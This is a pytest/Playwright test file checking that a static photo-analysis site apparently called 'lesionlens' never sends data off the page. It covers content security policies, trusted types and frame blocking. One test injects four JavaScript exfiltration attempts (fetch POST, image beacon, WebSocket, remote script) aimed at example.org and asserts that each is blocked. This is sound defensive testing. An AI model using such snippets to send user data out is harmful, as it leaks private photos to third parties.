"""Nothing leaves the built site's page: it asks nobody for anything, and its policy would not let it."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Route

from builder.site.serve import SUB_PATH
from tests.conftest import Build
from tests.visiting import (
    LOADED,
    NOTE_VIOLATIONS,
    WAIT_MS,
    answer,
)


def test_nothing_is_asked_of_anybody_else(http: str, context: BrowserContext, photos: list[Path]) -> None:
    page = context.new_page()
    asked: list[tuple[str, str, str | None]] = []
    page.on("request", lambda request: asked.append((request.method, request.url, request.post_data)))
    page.goto(f"{http}index.html")
    page.wait_for_selector(LOADED)
    before = len(asked)
    answer(page, photos[0].read_bytes())
    sent_for_the_photo = [url for _, url, _ in asked[before:] if not url.startswith("blob:")]
    assert sent_for_the_photo == []
    for method, url, body in asked:
        assert method == "GET" and body is None
        assert url.startswith((http, f"blob:{http.partition(SUB_PATH)[0]}")), url
        assert "?" not in url


@pytest.mark.parametrize(
    "attempt",
    [
        "fetch('https://example.org/', {method: 'POST', body: 'photo', mode: 'no-cors'})",
        "new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; "
        "i.src = 'https://example.org/x.png?photo'; })",
        "new Promise((done, fail) => { const s = new WebSocket('wss://example.org'); "
        "s.onopen = done; s.onerror = fail; })",
        "new Promise((done, fail) => { const s = document.createElement('script'); s.onload = done; s.onerror = fail; "
        "s.src = 'https://example.org/x.js'; document.head.append(s); })",
    ],
    ids=["fetch", "image", "socket", "script"],
)
def test_the_policy_lets_nothing_out(http: str, context: BrowserContext, attempt: str) -> None:
    page = context.new_page()
    left: list[str] = []

    def note(route: Route) -> None:
        left.append(route.request.url)
        route.abort()

    page.route("**/*example.org/**", note)
    page.goto(f"{http}report.html")
    page.goto(f"{http}index.html")
    outcome = page.evaluate(
        f"""async () => {{
          const blocked = [];
          document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
          let wentOut = true;
          try {{ await ({attempt}); }} catch {{ wentOut = false; }}
          await new Promise((done) => setTimeout(done, 100));
          return {{ wentOut, blocked: blocked.length }};
        }}"""
    )
    assert outcome["wentOut"] is False and outcome["blocked"] > 0
    assert left == []


def test_every_page_begins_with_its_policy_and_closes_what_that_does_not_name(demo_build: Build) -> None:
    pages = sorted(demo_build.site.rglob("*.html"))
    assert len(pages) > 24  # four in each of six languages, and the reports
    for page in pages:
        text = page.read_text(encoding="utf-8")
        [policy] = re.findall(r'Content-Security-Policy" content="([^"]+)"', text)
        assert not re.search(r"<(iframe|frame|object|embed)\b", text), page
        if page.name == "404.html":
            assert policy.startswith("default-src 'none';") and "script-src" not in policy  # nothing runs
            continue
        assert "require-trusted-types-for 'script'" in policy
        assert policy.endswith("trusted-types lesionlens" if page.name == "index.html" else "trusted-types 'none'")
        first = text.partition("<script")[2].partition("</script>")[0]
        assert text.index("Content-Security-Policy") < text.index("<script") and "createNoFrame" in first


def test_on_every_page_it_is_closed(address: str, demo_build: Build, context: BrowserContext) -> None:
    page = context.new_page()
    for file in sorted(demo_build.site.rglob("*.html")):
        if file.name == "404.html":
            continue
        page.goto(address + file.relative_to(demo_build.site).as_posix())
        assert page.evaluate("[typeof RTCPeerConnection, typeof open]") == ["undefined", "undefined"], file
        with pytest.raises(Error, match="makes no frames"):
            page.evaluate("document.createElement('iframe')")


def test_a_whole_visit_breaks_no_rule(browser: Browser, address: str, photos: list[Path]) -> None:
    context = browser.new_context()
    context.set_default_timeout(WAIT_MS)
    context.add_init_script(NOTE_VIOLATIONS)
    page = context.new_page()
    for folder in ("", "de/", "ar/"):
        page.goto(f"{address}{folder}index.html#en")
        page.wait_for_selector(LOADED)
        answer(page, photos[0].read_bytes())
        page.click("#heat-switch")
        page.wait_for_selector("#heat:not([hidden])")
        page.wait_for_selector("#opinions-ask:not([hidden]), #opinions-place:not([hidden])")
        if page.is_visible("#opinions-ask"):
            page.click("#opinions-ask")
        page.wait_for_selector("#opinions-place:not([hidden])")
        assert page.evaluate("violations") == []
    if address.startswith("http"):
        page.evaluate("navigator.serviceWorker.ready.then(() => 0)")
        context.set_offline(True)
    for name in ("index", "kinds", "how", "privacy", "report"):
        page.goto(f"{address}{name}.html")
        assert page.evaluate("violations") == []
    context.close()
